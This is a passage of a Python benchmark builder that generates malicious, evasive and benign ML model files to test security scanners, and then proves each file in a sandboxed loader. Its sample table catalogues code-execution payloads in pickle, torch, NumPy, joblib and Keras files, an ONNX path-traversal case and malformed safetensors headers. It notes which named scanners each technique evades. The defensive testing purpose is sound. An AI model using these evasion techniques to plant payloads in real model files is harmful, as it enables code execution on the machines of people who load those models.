        for key, value in (("location", location), ("offset", "0"), ("length", "16")):
            entry = weight.external_data.add()
            entry.key, entry.value = key, value
    graph = helper.make_graph(
        [helper.make_node("Add", ["X", "W"], ["Y"])],
        "mbom_corpus",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])],
        initializer=[weight],
    )
    model = helper.make_model(
        graph, producer_name="mbom-corpus", opset_imports=[helper.make_opsetid("", 17)]
    )
    model.ir_version = 8
    return model.SerializeToString()


# --- safetensors ----------------------------------------------------------------------


def _safetensors(header: dict[str, Any], data: bytes, *, header_len: int | None = None) -> bytes:
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)
    length = len(raw) if header_len is None else header_len
    return struct.pack("<Q", length) + raw + data


def _m63() -> bytes:
    return _onnx_model("../../etc/passwd")


def _m64() -> bytes:
    return _onnx_model("/etc/passwd")


def _m65() -> bytes:
    header = {
        "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
        "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
    }
    return _safetensors(header, bytes(24))


def _m66() -> bytes:
    header = {"a": {"dtype": "F32", "shape": [1 << 28], "data_offsets": [0, 1 << 30]}}
    return _safetensors(header, bytes(16))


def _m67() -> bytes:
    header = {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}
    return _safetensors(header, bytes(16), header_len=1 << 62)


# ---------------------------------------------------------------------------
# Benign files: real outputs of the libraries.
# ---------------------------------------------------------------------------


def _small_cnn() -> Any:
    import torch
    from torch import nn

    torch.manual_seed(0)
    return nn.Sequential(
        nn.Conv2d(1, 8, 3, padding=1),
        nn.BatchNorm2d(8),
        nn.ReLU(),
        nn.Flatten(),
        nn.Linear(8 * 8 * 8, 10),
    )


def _full_checkpoint() -> dict[str, Any]:
    import collections

    import torch
    from torch import nn

    model = _small_cnn()
    optimizer = torch.optim.Adam(model.parameters(), lr=1e-3)
    model(torch.zeros(2, 1, 8, 8)).sum().backward()
    optimizer.step()
    return {
        "epoch": 3,
        "global_step": 1200,
        "model": collections.OrderedDict(model.state_dict()),
        "optimizer": optimizer.state_dict(),
        "input_shape": torch.Size([1, 1, 8, 8]),
        "temperature": nn.Parameter(torch.ones(1)),
        "ema_bf16": {
            k: v.to(torch.bfloat16) for k, v in model.state_dict().items() if v.is_floating_point()
        },
        "config": {
            "arch": "small-cnn",
            "classes": list(range(10)),
            "aug": {"flip": True, "p": 0.5},
        },
        "best_metric": 0.981,
        "tags": ("mbom", "demo"),
    }


def _b_state_dict(**options: Any) -> bytes:
    return _torch_save(_small_cnn().state_dict(), **options)


def _b_fp16() -> bytes:
    state = {k: v.half() for k, v in _small_cnn().state_dict().items() if v.is_floating_point()}
    return _torch_save(state)


def _b_qint8() -> bytes:
    import torch

    with warnings.catch_warnings():  # deprecated in torch, still what quantized models hold
        warnings.simplefilter("ignore")
        weight = torch.quantize_per_tensor(torch.linspace(-1, 1, 64), 0.01, 0, torch.qint8)
    return _torch_save({"fc.weight": weight, "fc.scale": torch.tensor(0.01)})


def _b_npy() -> bytes:
    import numpy as np

    buffer = io.BytesIO()
    np.save(buffer, np.linspace(0, 1, 256, dtype=np.float32).reshape(16, 16))
    return buffer.getvalue()


def _b_npz(*, deflate: bool) -> bytes:
    import numpy as np

    arrays = {"w": np.ones((8, 8), np.float32), "b": np.zeros(8, np.float64), "ids": np.arange(5)}
    entries = {}
    for name, array in arrays.items():
        buffer = io.BytesIO()
        np.save(buffer, array)
        entries[f"{name}.npy"] = buffer.getvalue()
    return _plain_zip(entries, deflate=deflate)


def _b_safetensors() -> bytes:
    from safetensors.torch import save

    return save(_small_cnn().state_dict(), metadata={"format": "pt"})


def _b_safetensors_bf16() -> bytes:
    import torch
    from safetensors.torch import save

    state = {"embed": torch.ones(16, 4, dtype=torch.bfloat16), "ids": torch.arange(6)}
    return save(state, metadata={"source": "mbom-corpus"})


def _b_pt2() -> bytes:
    import torch

    model = _small_cnn().eval()
    program = torch.export.export(model, (torch.zeros(1, 1, 8, 8),))
    buffer = io.BytesIO()
    torch.export.save(program, buffer)
    return buffer.getvalue()


def _b_config() -> bytes:
    config = {
        "architectures": ["SmallCNN"],
        "model_type": "small-cnn",
        "num_labels": 10,
        "hidden_size": 512,
        "torch_dtype": "float32",
        "id2label": {str(i): str(i) for i in range(10)},
    }
    return json.dumps(config, indent=2).encode()


def _b_tokenizer() -> bytes:
    vocab = {"[PAD]": 0, "[UNK]": 1, "the": 2, "model": 3, "##s": 4, "weights": 5}
    tokenizer = {
        "version": "1.0",
        "truncation": None,
        "padding": None,
        "added_tokens": [{"id": 0, "content": "[PAD]", "special": True}],
        "normalizer": {"type": "BertNormalizer", "lowercase": True},
        "pre_tokenizer": {"type": "BertPreTokenizer"},
        "model": {"type": "WordPiece", "unk_token": "[UNK]", "vocab": vocab},
    }
    return json.dumps(tokenizer, indent=2).encode()


def _b_model_card() -> bytes:
    return (
        b"---\nlicense: apache-2.0\nbase_model: acme/digits-base\nbase_model_relation: finetune\n"
        b"datasets:\n- acme/claims\ntags:\n- image-classification\n---\n\n"
        b"# digits-ft\n\nA small CNN fine-tuned on 8x8 digits. Load with `torch.load(..., "
        b"weights_only=True)`; do not use `pickle.load` on untrusted files.\n"
    )


def _b_keras() -> bytes:
    import numpy as np

    def write(handle: Any) -> None:
        for layer, shape in (("dense", (4, 8)), ("dense_1", (8, 3))):
            group = handle.create_group(f"layers/{layer}/vars")
            group.create_dataset("0", data=np.ones(shape, np.float32), track_times=False)
            group.create_dataset("1", data=np.zeros(shape[1], np.float32), track_times=False)

    model = _keras3_model([_keras3_dense("dense", 8), _keras3_dense("dense_1", 3)])
    return _keras3_archive(model, weights=_h5_file(write))


def _b_h5() -> bytes:
    layers = [
        _keras2_layer("Dense", "dense", units=8, activation="relu"),
        _keras2_layer("Dense", "dense_1", units=3, activation="softmax"),
    ]
    return _keras2_h5(_keras2_sequential("model", layers), {"dense": (4, 8), "dense_1": (8, 3)})


def _b_joblib() -> bytes:
    import numpy as np

    return _joblib_dump(
        {"coef": np.linspace(0, 1, 16), "intercept": np.zeros(2), "classes": [0, 1]}
    )


def _b_onnx_external_data() -> bytes:
    import numpy as np

    return np.arange(4, dtype=np.float32).tobytes()


def _samples() -> list[Sample]:
    """Every corpus sample, in order."""
    pk, tl, ts = "pickle", "torch", "torch_safe"
    S = Sample  # noqa: N806 - a short alias keeps the table readable
    return [
        S("m01-reduce-p0.pkl", "malicious", "GLOBAL os.system + REDUCE, protocol 0",
          "baseline: every pickle scanner should catch it", _m01, pk),
        S("m02-reduce-p2.pkl", "malicious", "GLOBAL os.system + REDUCE, protocol 2",
          "baseline", _m02, pk),
        S("m03-reduce-p4.pkl", "malicious", "STACK_GLOBAL os.system in a FRAME, protocol 4",
          "baseline for STACK_GLOBAL", _m03, pk),
        S("m04-reduce-p5.pkl", "malicious", "STACK_GLOBAL os.system, protocol 5",
          "baseline for protocol 5", _m04, pk),
        S("m05-posix-system.pkl", "malicious", "posix.system (what pickle writes for os.system)",
          "blocklists that name only 'os'", _m05, pk),
        S("m06-subprocess-popen.pkl", "malicious", "subprocess.Popen of an argv tuple",
          "baseline", _m06, pk),
        S("m07-subprocess-check-output.pkl", "malicious", "subprocess.check_output via sh -c",
          "baseline", _m07, pk),
        S("m08-builtins-eval.pkl", "malicious", "builtins.eval of a source string",
          "baseline", _m08, pk),
        S("m09-builtins-exec.pkl", "malicious", "builtins.exec of a source string",
          "baseline", _m09, pk),
        S("m10-getattr-chain.pkl", "malicious", "getattr(__import__('os'), 'system')(...)",
          "scanners that look for an 'os' import: only builtins are named (3 chained REDUCEs)",
          _m10, pk),
        S("m11-import-methodcaller.pkl", "malicious",
          "__builtin__.__import__ (py2 name) + _operator.methodcaller",
          "modelscan does not list _operator.methodcaller (it still flags __builtin__.__import__)",
          _m11, pk),
        S("m12-attrgetter-posixpath-os.pkl", "malicious",
          "operator.attrgetter('system') applied to posixpath.os (the os module, no 'os' import)",
          "blocklists keyed on module 'os': the os module comes from 'posixpath' (attrgetter "
          "is what gives it away)", _m12, pk),
        S("m13-dotted-pathlib-os.pkl", "malicious",
          "STACK_GLOBAL('pathlib', 'os.system'): protocol 4 resolves dotted names",
          "modelscan judges the module 'pathlib' (not listed), not the resolved os.system; "
          "picklescan catches it only in --strict",
          _m13, pk),
        S("m14-importlib.pkl", "malicious", "importlib.import_module('os') + methodcaller",
          "modelscan: neither importlib nor methodcaller is listed", _m14, pk),
        S("m15-pkgutil-resolve-name.pkl", "malicious", "pkgutil.resolve_name('os:system')",
          "modelscan: pkgutil is not listed", _m15, pk),
        S("m16-stack-global-memo.pkl", "malicious", "STACK_GLOBAL names fetched from the memo",
          "scanners that only look at the two opcodes before STACK_GLOBAL", _m16, pk),
        S("m17-memo-copy.pkl", "malicious",
          "names copied memo -> stack -> memo (BINGET + MEMOIZE) before STACK_GLOBAL",
          "modelscan/picklescan model the memo as 'the previous opcode's argument', so the "
          "copies read as the integers 0 and 2: modelscan crashes, picklescan --strict flags "
          "the unknown '0.2'", _m17, pk),
        S("m18-binunicode8-names.pkl", "malicious", "STACK_GLOBAL names pushed with BINUNICODE8",
          "scanners that only know SHORT_BINUNICODE", _m18, pk),
        S("m19-short-binstring-names.pkl", "malicious",
          "STACK_GLOBAL names pushed with SHORT_BINSTRING (decoded to str by Python 3)",
          "modelscan does not treat SHORT_BINSTRING as a name (reads 'unknown')", _m19, pk),
        S("m20-inst-opcode.pkl", "malicious", "INST os system: import and call in one opcode",
          "scanners that look for REDUCE", _m20, pk),
        S("m21-obj-opcode.pkl", "malicious", "OBJ with os.system as the class: call, no REDUCE",
          "scanners that look for REDUCE", _m21, pk),
        S("m22-newobj-functiontype.pkl", "malicious",
          "marshal.loads(code) + NEWOBJ types.FunctionType, then called",
          "modelscan: marshal and types are not listed", _m22, pk),
        S("m23-reduce-functiontype.pkl", "malicious",
          "marshal.loads(code) + REDUCE types.FunctionType, then called",
          "modelscan: marshal and types are not listed; picklescan lists only types.CodeType "
          "(caught in --strict)",
          _m23, pk),
        S("m24-newobj-ex-functiontype.pkl", "malicious",
          "marshal.loads + NEWOBJ_EX types.FunctionType (protocol 4)",
          "as m22, through the rarer NEWOBJ_EX", _m24, pk),
        S("m25-build-setstate.pkl", "malicious",
          "BUILD sets __setstate__ = os.system on an OrderedDict, a 2nd BUILD calls it",
          "scanners that only see calls at REDUCE (the call happens in BUILD)", _m25, pk),
        S("m26-runpy-run-code.pkl", "malicious", "runpy._run_code of a source string",
          "baseline for runpy", _m26, pk),
        S("m27-code-interpreter.pkl", "malicious",
          "code.InteractiveInterpreter.runsource (dotted name, protocol 4)",
          "picklescan lists only .runcode; modelscan lists nothing from 'code'", _m27, pk),
        S("m28-cprofile-run.pkl", "malicious", "cProfile.run executes a string",
          "modelscan: cProfile is not listed", _m28, pk),
        S("m29-profile-run.pkl", "malicious", "profile.run executes a string",
          "modelscan: profile is not listed", _m29, pk),
        S("m30-timeit.pkl", "malicious", "timeit.timeit executes a string",
          "modelscan: timeit is not listed", _m30, pk),
        S("m31-pdb-scripted.pkl", "malicious",
          "pdb.Pdb.run with a scripted stdin ('continue') runs a string",
          "none known (pdb is listed by both blocklists)", _m31, pk),
        S("m32-functools-partial.pkl", "malicious", "functools.partial(os.system, ...) then called",
          "baseline (os.system is still named)", _m32, pk),
        S("m33-nested-torch-load.pt", "malicious",
          "data.pkl calls torch.serialization.load on a bytes constant holding the payload",
          "modelscan: torch.* is not listed; nobody scans inside the bytes constant", _m33, tl),
        S("m34-nested-numpy-load.pkl", "malicious",
          "numpy.load(BytesIO(object-array .npy), None, True) from inside a pickle",
          "modelscan/picklescan (non-strict): numpy.load is not listed", _m34, pk),
        S("m35-stacked.pkl", "malicious", "two pickles, benign first, payload second",
          "scanners that stop at the first STOP", _m35, "pickle_stream"),
        S("m36-truncated.pkl", "malicious", "REDUCE then end of file, no STOP (nullifAI)",
          "modelscan reads globals only from a pickle that parses to the end: a parse error, "
          "no os.system", _m36, pk),
        S("m37-broken-opcode.pkl", "malicious", "REDUCE then an invalid opcode (nullifAI)",
          "scanners that discard what they parsed before the error (modelscan)", _m37, pk),
        S("m38-frame-too-short.pkl", "malicious",
          "FRAME declares 2 bytes for a longer body: CPython's C unpickler runs it anyway",
          "parser differential: a strict parser sees a broken file", _m38, pk),
        S("m39-torch-save.pt", "malicious", "torch.save of an object whose __reduce__ is payload",
          "baseline for PyTorch zip", _m39, tl),
        S("m40-torch-odd-prefix.pt", "malicious",
          "torch zip whose archive folder is named 'model.safetensors'",
          "scanners that look for 'archive/data.pkl'", _m40, tl),
        S("m41-torch-bad-crc.pt", "malicious", "data.pkl CRC-32 wrong: torch ignores it",
          "scanners using Python's zipfile (BadZipFile on read)", _m41, tl),
        S("m42-torch-name-mismatch.pt", "malicious",
          "local header name differs from the central directory name",
          "Python's zipfile refuses the member (BadZipFile); torch reads the central directory",
          _m42, tl),
        S("m43-torch-duplicate-member.pt", "malicious",
          "two 'archive/data.pkl': torch loads the 1st (payload), zipfile.open(name) the last",
          "modelscan/picklescan open members by name and scan the benign duplicate", _m43, tl),
        S("m44-torch-flag-bits.pt", "malicious",
          "local flags say encrypted + strong encryption, central flags a reserved bit",
          "scanners that trust the local header flags", _m44, tl),
        S("m45-torch-deflate.pt", "malicious", "data.pkl deflate-compressed (torch writes stored)",
          "scanners that read the stored bytes in place", _m45, tl),
        S("m46-torch-broken-pickle.pt", "malicious",
          "torch zip whose data.pkl breaks right after the REDUCE",
          "nullifAI inside a checkpoint", _m46, tl),
        S("m47-zip-in-zip.zip", "malicious", "a malicious torch zip inside a plain zip",
          "modelscan reports nested zips as unsupported; picklescan and fickling do not "
          "look inside the inner .pt", _m47,
          "zip_torch"),
        S("m48-torch-legacy-5th.pt", "malicious",
          "legacy torch file: the 5th pickle (storage keys) runs the payload, then the real keys",
          "modelscan scans only the first pickle of a legacy file", _m48, tl),
        S("m49-torch-legacy-tar.pt", "malicious",
          "legacy tar torch format: payload in the 'storages' member",
          "modelscan/picklescan do not open the tar format ('TODO: implement loading from tar')",
          _m49, tl),
        S("m50-object-array.npy", "malicious", ".npy object array whose pickle is the payload",
          "baseline for NumPy", _npy_object_array, "numpy"),
        S("m51-object-member.npz", "malicious", ".npz with a malicious object-array member",
          "fickling's zip scan reads only .pkl/.pickle/.bin members", _m51, "numpy"),
        S("m52-npy-as-weights.bin", "malicious", "the .npy of m50 named .bin (np.load reads magic)",
          "extension-driven scanners treat .bin as a torch file and find no torch magic",
          _npy_object_array, "numpy"),
        S("m53-joblib-dump.joblib", "malicious", "joblib.dump of an object with the payload",
          "baseline for joblib", _m53, "joblib"),
        S("m54-joblib-zlib.joblib", "malicious", "joblib.dump(..., compress=3): zlib container",
          "scanners that parse the file as a raw pickle", _m54, "joblib"),
        S("m55-joblib-lzma.pkl.xz", "malicious", "joblib.dump with lzma compression, .xz name",
          "scanners that parse the file as a raw pickle or skip .xz", _m55, "joblib"),
        S("m56-gzip-pickle.pkl.gz", "malicious", "gzip-wrapped pickle (joblib.load gunzips it)",
          "scanners that skip .gz or parse it as a raw pickle", _m56, "joblib"),
        S("m57-tar-pickle.tar", "malicious", "a tar holding model/model.pkl",
          "scanners that do not open tar archives", _m57, "tar_pickle"),
        S("m58-7z-torch.7z", "malicious", "a 7z holding pytorch_model.bin (a malicious torch zip)",
          "picklescan extracts only pickle-named 7z members; others skip 7z", _m58, "7z_torch"),
        S("m59-keras-lambda.keras", "malicious", "Keras 3 archive with a top-level Lambda layer",
          "baseline for Keras (modelscan's KerasLambdaDetectScan)", _m59, "keras_lambda"),
        S("m60-keras-lambda-nested.keras", "malicious",
          "Lambda inside TimeDistributed inside a nested Sequential",
          "modelscan looks only at the top-level 'layers' list", _m60, "keras_lambda"),
        S("m61-keras-lambda.h5", "malicious", "Keras 2 HDF5 with a Lambda in model_config",
          "baseline for HDF5 (modelscan's H5LambdaDetectScan)", _m61, "keras_lambda"),
        S("m62-keras-lambda-nested.h5", "malicious", "Keras 2 HDF5, Lambda in a nested Sequential",
          "modelscan looks only at the top-level 'layers' list", _m62, "keras_lambda"),
        S("m63-onnx-traversal.onnx", "evasive", "ONNX initializer stored at '../../etc/passwd'",
          "no public scanner inspects ONNX external-data paths", _m63,
          "onnx_escape"),
        S("m64-onnx-absolute.onnx", "evasive", "ONNX initializer stored at '/etc/passwd'",
          "no public scanner inspects ONNX external-data paths", _m64,
          "onnx_escape"),
        S("m65-st-overlap.safetensors", "evasive", "safetensors tensors overlapping in the data",
          "no public scanner validates safetensors headers", _m65, "safetensors_invalid"),
        S("m66-st-out-of-bounds.safetensors", "evasive",
          "safetensors offsets 1 GiB past the end of a tiny file",
          "no public scanner validates safetensors headers", _m66, "safetensors_invalid"),
        S("m67-st-huge-header.safetensors", "evasive", "safetensors header length 2**62",
          "a naive reader allocates the header length", _m67, "safetensors_invalid"),
        S("m68-pickle-as.txt", "malicious", "a pickle named notes.txt",
          "modelscan chooses scanners by extension and skips .txt", _payload_pickle, pk),
        S("m69-pickle-as-config.json", "malicious", "a pickle named config.json",
          "modelscan skips .json", _payload_pickle, pk),
        S("m70-pickle-no-extension", "malicious", "a pickle with no extension",
          "modelscan skips files without a known extension", _payload_pickle, pk),
        # --- benign ---
        S("b01-state-dict.pt", "benign", "torch.save state dict (zip)", "", _b_state_dict, ts),
        S("b02-state-dict-legacy.pt", "benign", "torch.save state dict (legacy, non-zip)", "",
          lambda: _b_state_dict(_use_new_zipfile_serialization=False), "torch_safe"),
        S("b03-checkpoint.pt", "benign",
          "checkpoint: epoch, torch.Size, nn.Parameter, bfloat16, OrderedDict, nested dicts, Adam",
          "", lambda: _torch_save(_full_checkpoint()), "torch_safe"),
        S("b04-checkpoint-legacy.pt", "benign", "the same checkpoint, legacy format", "",
          lambda: _torch_save(_full_checkpoint(), _use_new_zipfile_serialization=False),
          "torch_safe"),
        S("b05-fp16.pt", "benign", "fp16 state dict", "", _b_fp16, "torch_safe"),
        S("b06-qint8.pt", "benign", "a per-tensor quantized qint8 weight", "", _b_qint8, ts),
        S("b07-weights.npy", "benign", "np.save float32 array", "", _b_npy, "numpy_safe"),
        S("b08-arrays.npz", "benign", "np.savez-style numeric arrays (stored)", "",
          lambda: _b_npz(deflate=False), "numpy_safe"),
        S("b09-arrays-compressed.npz", "benign", "numeric arrays, deflate (savez_compressed)", "",
          lambda: _b_npz(deflate=True), "numpy_safe"),
        S("b10-model.safetensors", "benign", "safetensors of a state dict", "", _b_safetensors,
          "safetensors_safe"),
        S("b11-bf16.safetensors", "benign", "safetensors with bfloat16 and int64", "",
          _b_safetensors_bf16, "safetensors_safe"),
        S("b12-model.pt2", "benign", "torch.export.save archive", "", _b_pt2, "pt2_safe"),
        S("b13-model.onnx", "benign", "ONNX with an inline initializer", "",
          lambda: _onnx_model(None), "onnx_safe"),
        S("b14-external.onnx", "benign", "ONNX whose initializer is in b14-external.onnx.data", "",
          lambda: _onnx_model("b14-external.onnx.data"), "onnx_safe"),
        S("b14-external.onnx.data", "benign", "raw float32 external data of b14-external.onnx", "",
          _b_onnx_external_data, "raw"),
        S("b15-dense.keras", "benign", "Keras 3 archive with Dense layers only", "", _b_keras,
          "keras_safe"),
        S("b16-dense.h5", "benign", "Keras 2 HDF5 with Dense layers only", "", _b_h5, "keras_safe"),
        S("b17-arrays.joblib", "benign", "joblib.dump of NumPy arrays and a list", "", _b_joblib,
          "joblib_safe"),
        S("b18-config.json", "benign", "Hugging Face style config.json", "", _b_config, "json"),
        S("b19-tokenizer.json", "benign", "tokenizer.json (WordPiece)", "", _b_tokenizer, "json"),
        S("b20-README.md", "benign", "model card with YAML front matter", "", _b_model_card, "raw"),
        S("b21-state-dict-proto4.pt", "benign", "state dict saved with pickle_protocol=4 (FRAME)",
          "", lambda: _b_state_dict(pickle_protocol=4), "torch_trusted"),
    ]  # fmt: skip


# ---------------------------------------------------------------------------
# Proof: run the real loader in a subprocess, or check the structure here.
# ---------------------------------------------------------------------------

_SEQ_LOAD = "import pickle, sys\nwith open(sys.argv[1], 'rb') as f:\n    while f.peek(1):\n"

LOADERS: dict[str, str] = {
    "pickle": "import pickle, sys\npickle.load(open(sys.argv[1], 'rb'))",
    "pickle_stream": _SEQ_LOAD + "        pickle.load(f)",
    "torch": "import sys, torch\ntorch.load(sys.argv[1], weights_only=False)",
    "numpy": (
        "import sys, numpy as np\nd = np.load(sys.argv[1], allow_pickle=True)\n"
        "[d[k] for k in d.files] if hasattr(d, 'files') else d"
    ),
    "joblib": "import sys, joblib\njoblib.load(sys.argv[1])",
    "tar_pickle": (
        "import pickle, sys, tarfile\nt = tarfile.open(sys.argv[1])\n"
        "[pickle.load(t.extractfile(m)) for m in t.getmembers() if m.name.endswith('.pkl')]"
    ),
    "zip_torch": (
        "import sys, torch, zipfile\nz = zipfile.ZipFile(sys.argv[1])\n"
        "[torch.load(z.extract(n), weights_only=False) for n in z.namelist() if n.endswith('.pt')]"
    ),
    "7z_torch": (
        "import glob, sys, py7zr, torch\npy7zr.SevenZipFile(sys.argv[1]).extractall('x')\n"
        "[torch.load(p, weights_only=False) for p in glob.glob('x/**/*.bin', recursive=True)]"
    ),
    # Keras is not installed: do what keras.src.utils.python_utils.func_load does with a
    # Lambda config (Keras 2: [code, defaults, closure]; Keras 3: {"code": ...}), then call it.
    "keras_lambda": (
        "import codecs, json, marshal, sys, types, zipfile\n"
        "p = sys.argv[1]\n"
        "if zipfile.is_zipfile(p):\n    cfg = json.loads(zipfile.ZipFile(p).read('config.json'))\n"
        "else:\n    import h5py\n    cfg = json.loads(h5py.File(p, 'r').attrs['model_config'])\n"
        "def walk(o):\n"
        "    if isinstance(o, dict):\n"
        "        if o.get('class_name') == 'Lambda':\n"
        "            fn = o['config']['function']\n"
        "            code = fn[0] if isinstance(fn, list) else fn['config']['code']\n"
        "            raw = codecs.decode(code.encode('ascii'), 'base64')\n"
        "            types.FunctionType(marshal.loads(raw), globals())(0)\n"
        "        for v in o.values():\n            walk(v)\n"
        "    elif isinstance(o, list):\n        for v in o:\n            walk(v)\n"
        "walk(cfg)"
    ),
    # Benign files: their safe loaders must accept them.
    "torch_safe": "import sys, torch\ntorch.load(sys.argv[1], weights_only=True)",
    "numpy_safe": (
        "import sys, numpy as np\nd = np.load(sys.argv[1], allow_pickle=False)\n"
        "[d[k] for k in d.files] if hasattr(d, 'files') else d"
    ),
    "safetensors_safe": "import sys\nimport safetensors.torch as st\nst.load_file(sys.argv[1])",
    # torch's weights_only unpickler rejects FRAME (protocol 4): full load, no marker.
    "torch_trusted": "import sys, torch\ntorch.load(sys.argv[1], weights_only=False)",
    "pt2_safe": "import sys, torch\ntorch.export.load(sys.argv[1])",
    "onnx_safe": "import sys, onnx\nonnx.checker.check_model(onnx.load(sys.argv[1]))",
    "keras_safe": (
        "import json, sys, zipfile, h5py\np = sys.argv[1]\n"
        "if zipfile.is_zipfile(p):\n    json.loads(zipfile.ZipFile(p).read('config.json'))\n"
        "else:\n    json.loads(h5py.File(p, 'r').attrs['model_config'])"
    ),
    "joblib_safe": (
        "import pickle, sys, joblib\n"
        "class Strict(joblib.numpy_pickle.NumpyUnpickler):\n"
        "    def find_class(self, m, n):\n"
        "        allowed = {('joblib.numpy_pickle', 'NumpyArrayWrapper'), ('numpy', 'ndarray'),\n"
        "                   ('numpy', 'dtype'), ('numpy.core.multiarray', '_reconstruct'),\n"
        "                   ('numpy._core.multiarray', '_reconstruct')}\n"
        "        if (m, n) not in allowed:\n            raise pickle.UnpicklingError(f'{m}.{n}')\n"
        "        return super().find_class(m, n)\n"
        "with open(sys.argv[1], 'rb') as f:\n    Strict(sys.argv[1], f, True).load()"
    ),
    "json": "import json, sys\njson.load(open(sys.argv[1]))",
    "raw": "import sys\nopen(sys.argv[1], 'rb').read()",
}


def _sandbox_prefix() -> list[str]:
    """``unshare -rn`` (no network, fake root) where the kernel allows it."""
    unshare = shutil.which("unshare")
    if unshare is None:
        return []
    probe = subprocess.run([unshare, "-rn", "true"], capture_output=True, check=False)
    return [unshare, "-rn"] if probe.returncode == 0 else []


def run_loader(loader: str, path: Path, sandbox: list[str]) -> tuple[bool, str]:
    """Load ``path`` with a LOADERS entry in a fresh subprocess in an empty temp dir.

    Returns (payload marker seen, the last lines of the output). Exceptions after
    the payload ran (truncated pickles ...) are expected and ignored.
    """
    with tempfile.TemporaryDirectory(prefix="mbom-corpus-load-") as tmp:
        target = Path(tmp) / path.name
        # The file and its companions (an ONNX model's external data beside it).
        for companion in path.parent.glob(glob.escape(path.name) + "*"):
            shutil.copyfile(companion, Path(tmp) / companion.name)
        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": tmp, "PYTHONHASHSEED": "0"}
        try:
            result = subprocess.run(
                [*sandbox, sys.executable, "-c", LOADERS[loader], str(target)],
                cwd=tmp,
                env=env,
                stdin=subprocess.DEVNULL,
                capture_output=True,
                text=True,
                errors="replace",
                timeout=LOAD_TIMEOUT_S,
                check=False,
            )
        except subprocess.TimeoutExpired:
            return False, "timeout"
        output = result.stdout + result.stderr
        tail = " | ".join(output.strip().splitlines()[-2:])[-300:]
        return MARKER in output, tail if result.returncode else "exit 0"


def _onnx_escape(path: Path) -> tuple[bool, str]:
    import onnx

    model = onnx.load(str(path), load_external_data=False)
    locations = [
        entry.value
        for tensor in model.graph.initializer
        for entry in tensor.external_data
        if entry.key == "location"
    ]
    escaping = [p for p in locations if p.startswith("/") or ".." in Path(p).parts]
    return bool(escaping), f"external data at {escaping}"


def _safetensors_invalid(path: Path) -> tuple[bool, str]:
    from safetensors import safe_open

    try:
        with safe_open(str(path), framework="numpy") as handle:
            for key in handle.keys():  # noqa: SIM118 - safe_open is not a mapping
                handle.get_tensor(key)
    except Exception as exc:  # noqa: BLE001 - any refusal proves the file is invalid
        return True, f"safetensors refuses it: {exc}"[:200]
    return False, "safetensors accepts it"


STRUCTURAL: dict[str, Callable[[Path], tuple[bool, str]]] = {
    "onnx_escape": _onnx_escape,
    "safetensors_invalid": _safetensors_invalid,
}


def prove(sample: Sample, path: Path, sandbox: list[str]) -> tuple[bool, str]:
    """True when the sample is what it claims: the payload runs, the property holds,
    or (benign) the safe loader accepts it without running anything."""
    if sample.proof in STRUCTURAL:
        return STRUCTURAL[sample.proof](path)
    fired, tail = run_loader(sample.proof, path, sandbox)
    if sample.kind == "benign":
        return (not fired and tail == "exit 0"), tail
    return fired, tail


# ---------------------------------------------------------------------------
# Building
# ---------------------------------------------------------------------------


def _sha256(path: Path) -> str:
    digest = hashlib.sha256()
    with path.open("rb") as handle:
        for block in iter(lambda: handle.read(1 << 20), b""):
            digest.update(block)
    return digest.hexdigest()


def write_big_checkpoint(out_dir: Path) -> Path:
    """A >= 500 MB benign torch zip checkpoint for throughput (reused if present)."""
    import torch

    path = out_dir / "big" / BIG_NAME
    if path.exists() and path.stat().st_size >= 500_000_000:
        return path
    path.parent.mkdir(parents=True, exist_ok=True)
    elements = BIG_TENSOR_MIB * (1 << 20) // 4
    state = {f"layers.{i}.weight": torch.full((elements,), float(i)) for i in range(BIG_TENSORS)}
    state["step"] = torch.tensor(1)
    partial = path.with_suffix(".partial")
    torch.save(state, partial)
    partial.replace(path)
    return path


def _iter_written(out_dir: Path, samples: list[Sample]) -> Iterator[tuple[Sample, Path]]:
    for sample in samples:
        folder = out_dir / ("benign" if sample.kind == "benign" else "malicious")
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / sample.name
        path.write_bytes(sample.make())
        yield sample, path


def build(
    out_dir: Path, *, big: bool = False, verify: bool = True, jobs: int = 2
) -> dict[str, Any]:
    """Write the corpus and its manifest; returns the manifest.

    Raises SystemExit naming every sample that failed its proof: a corpus that is
    not proven is not written as if it were.
    """
    out_dir.mkdir(parents=True, exist_ok=True)
    written = list(_iter_written(out_dir, _samples()))
    sandbox = _sandbox_prefix() if verify else []
    proofs: list[tuple[bool, str]] = [(False, "not verified")] * len(written)
    if verify:
        with ThreadPoolExecutor(max_workers=jobs) as pool:
            proofs = list(pool.map(lambda item: prove(item[0], item[1], sandbox), written))
    entries = []
    for (sample, path), (proven, evidence) in zip(written, proofs, strict=True):
        entries.append(
            {
                "file": str(path.relative_to(out_dir)),
                "kind": sample.kind,
                "technique": sample.technique,
                "targets": sample.targets,
                "proof": sample.proof,
                "proven": proven,
                "evidence": evidence,
                "size": path.stat().st_size,
                "sha256": _sha256(path),
            }
        )
    manifest: dict[str, Any] = {"marker": MARKER, "sandbox": " ".join(sandbox), "files": entries}
    if big:
        big_path = write_big_checkpoint(out_dir)
        manifest["big"] = {
            "file": str(big_path.relative_to(out_dir)),
            "size": big_path.stat().st_size,
        }
    (out_dir / "manifest.json").write_text(json.dumps(manifest, indent=1) + "\n")
    failed = [e["file"] + ": " + e["evidence"] for e in entries if verify and not e["proven"]]
    if failed:
        raise SystemExit("corpus samples failed their proof:\n  " + "\n  ".join(failed))
    return manifest


def main(argv: list[str] | None = None) -> None:
    """``python -m benchmarks.scan_corpus OUT_DIR [--big] [--no-verify]``."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out_dir", type=Path)
    parser.add_argument("--big", action="store_true", help="also write a >= 500 MB checkpoint")
    parser.add_argument("--no-verify", action="store_true", help="skip loading each sample")
    parser.add_argument("--jobs", type=int, default=2, help="loaders run in parallel")
    args = parser.parse_args(argv)
    manifest = build(args.out_dir, big=args.big, verify=not args.no_verify, jobs=args.jobs)
    files = manifest["files"]
    counts = {
        kind: sum(1 for f in files if f["kind"] == kind)
        for kind in ("malicious", "evasive", "benign")
    }
    proven = sum(1 for f in files if f["proven"])
